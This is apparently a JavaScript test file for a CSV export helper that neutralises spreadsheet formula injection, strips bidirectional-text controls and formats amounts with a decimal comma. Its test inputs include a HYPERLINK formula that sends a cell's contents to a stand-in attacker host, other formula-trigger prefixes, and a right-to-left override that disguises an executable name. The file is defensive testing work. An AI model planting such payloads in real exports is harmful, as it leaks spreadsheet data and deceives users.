import { csvAmount, csvLine, csvNumber, csvText } from './csv.js';

describe('CSV cells', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?d="&A1;"Facture")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""Facture"")"`,
    ],
    ['+33 6 12', "'+33 6 12"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tcmd', `"'\tcmd"`],
    ['\rcmd', `"'\rcmd"`],
  ])('neutralises a cell a spreadsheet would run: %j', (value, cell) => {
    expect(csvText(value)).toBe(cell);
  });

  it('drops bidi controls, and finds the formula they hid', () => {
    expect(csvText('Boulangerie\u202Efdp.exe')).toBe('Boulangeriefdp.exe');
    expect(csvText('\u202A=1+1')).toBe("'=1+1");
  });

  it('leaves plain text as it is, quoting only what needs it', () => {
    expect(csvText('Boulangerie Martin')).toBe('Boulangerie Martin');
    expect(csvText('Dupont; fils')).toBe('"Dupont; fils"');
    expect(csvText('Le "Fournil"')).toBe('"Le ""Fournil"""');
    expect(csvText('a=b')).toBe('a=b');
  });

  it('writes amounts with a decimal comma, negatives unprefixed', () => {
    expect(csvAmount(-123456)).toBe('-1234,56');
    expect(csvAmount(5)).toBe('0,05');
    expect(csvNumber(csvAmount(-5))).toBe('-0,05');
    expect(() => csvNumber('=1+1')).toThrow();
    expect(csvLine(['a', 'b'])).toBe('a;b');
  });
});
